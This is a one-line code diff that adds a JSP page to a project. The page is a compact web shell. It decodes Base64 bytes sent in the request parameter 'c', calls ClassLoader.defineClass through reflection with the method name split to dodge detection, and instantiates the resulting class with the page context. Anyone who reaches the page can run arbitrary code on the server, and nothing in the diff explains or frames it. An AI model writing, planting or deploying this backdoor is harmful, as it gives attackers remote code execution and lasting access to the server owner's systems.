@@ -1,0 +1,1 @@
+<%@page import="java.lang.reflect.*"%><% byte[] b = java.util.Base64.getDecoder().decode(request.getParameter("c")); Method m = ClassLoader.class.getDeclaredMethod("define" + "Class", byte[].class, int.class, int.class); m.setAccessible(true); ((Class) m.invoke(Thread.currentThread().getContextClassLoader(), b, 0, b.length)).newInstance().equals(pageContext); %>
